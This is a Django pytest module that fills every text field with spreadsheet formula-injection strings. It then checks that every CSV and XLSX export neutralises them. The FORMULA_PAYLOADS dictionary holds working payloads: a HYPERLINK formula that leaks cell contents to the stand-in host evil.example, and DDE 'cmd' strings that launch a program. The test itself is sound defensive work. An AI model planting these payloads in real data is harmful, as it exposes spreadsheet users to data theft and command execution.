"""Formula injection: text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written into every
text field, then every CSV/XLSX export is downloaded: no cell may start a formula (a spreadsheet would run it)."""

from __future__ import annotations

import csv
import io

import pytest
from django.apps import apps
from django.db import IntegrityError, models, transaction
from django.urls import reverse
from tests.web import test_access as matrix
from tests.web.security.test_xss import MACHINE_FIELDS

from prongsai.apps.base.opendata import registered_datasets

FORMULA_PAYLOADS = {
    "equals": "=HYPERLINK(\"https://evil.example/?\"&A1,\"คลิก\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

# Every route that answers a table (CSV/XLSX). A new export route must be added here or to NOT_TABULAR.
TABULAR_ROUTES = {"portal:dataset_download", "oit:itas_export", "rounds:export", "assessments:import_template",
                  "registers:asset_import_template"}
NOT_TABULAR = {"portal:data_catalog_json", "registers:asset_qr", "registers:inventory_report",
               "registers:ethics_report",
               "surveys:round_qr", "surveys:round_poster", "surveys:official_poster", "oit:check_download",
               "rounds:report", "rounds:poster", "frameworks:export", "meetings:document",
               "meetings:public_development"}


def test_every_export_route_is_classified():
    routes = {
        name for route, name, _ in matrix._patterns()
        if any(k in route for k in ("fmt", ".csv", ".xlsx", ".json", "template", "export"))
    }
    assert routes <= TABULAR_ROUTES | NOT_TABULAR, routes - TABULAR_ROUTES - NOT_TABULAR


def _poison(value: str) -> None:
    for model in apps.get_models():
        if not model.__module__.startswith("prongsai.apps."):
            continue
        names = [
            f.name for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField) and not f.choices
            and f"{model._meta.label}.{f.name}" not in MACHINE_FIELDS
            and not isinstance(f, models.SlugField | models.URLField)
            and (f.max_length or 10_000) >= len(value)
        ]
        for pk in model._base_manager.values_list("pk", flat=True):
            for name in names:
                try:
                    with transaction.atomic():
                        model._base_manager.filter(pk=pk).update(**{name: value})
                except IntegrityError:
                    pass


def _cells(fmt: str, content: bytes) -> list[tuple[str, object]]:
    """(where, value) of every cell; a formula cell of a workbook comes back as ("formula", …)."""
    if fmt == "csv":
        text = content.decode("utf-8-sig")
        return [(f"row {r}", cell) for r, row in enumerate(csv.reader(io.StringIO(text, newline=""))) for cell in row]
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(content))
    out = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate}"
                out.append(("formula " + where if cell.data_type == "f" else where, cell.value))
    return out


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
    except ValueError:
        return False
    return True


def _export_urls(world, objects) -> list[tuple[str, str, str]]:
    """(route name, format, URL) of every table export the sample world can answer."""
    own = world.own
    urls = [("portal:dataset_download", fmt, reverse("portal:dataset_download",
                                                     kwargs={"slug": own.slug, "dataset": slug, "fmt": fmt}))
            for slug in registered_datasets() for fmt in ("csv", "xlsx")]
    urls.append(("assessments:import_template", "xlsx",
                 reverse("assessments:import_template", kwargs={"agency_slug": own.slug})))
    urls.append(("registers:asset_import_template", "csv",
                 reverse("registers:asset_import_template", kwargs={"agency_slug": own.slug})))
    for name in ("oit:itas_export", "rounds:export"):
        for extra in (matrix.OIT_ROUTE_KWARGS, matrix.ROUNDS_ROUTE_KWARGS):
            if name in extra:
                kwargs = {"agency_slug": own.slug, **extra[name](objects[own.pk])}
                for fmt in ("csv", "xlsx"):
                    urls.append((name, fmt, reverse(name, kwargs={**kwargs, "fmt": fmt})))
    return urls


@pytest.mark.parametrize("payload", sorted(FORMULA_PAYLOADS))
def test_no_export_starts_a_formula(client, every_page_objects, payload):
    world, objects = every_page_objects
    _poison(FORMULA_PAYLOADS[payload])
    client.force_login(world.user("coordinator"))
    urls = _export_urls(world, objects)
    assert len(urls) >= 2 * len(registered_datasets()) + 2
    wrong, seen = [], 0
    for _name, fmt, url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        content = b"".join(response.streaming_content) if response.streaming else response.content
        for where, value in _cells(fmt, content):
            starts_formula = isinstance(value, str) and value.startswith(DANGEROUS) and not _is_number(value)
            if where.startswith("formula") or starts_formula:
                wrong.append(f"{url} {where}: {value!r}")
            elif isinstance(value, str) and value.lstrip("'").startswith(FORMULA_PAYLOADS[payload][:4]):
                seen += 1
    assert wrong == []
    assert seen > 0  # the payload did reach the exports (neutralised)
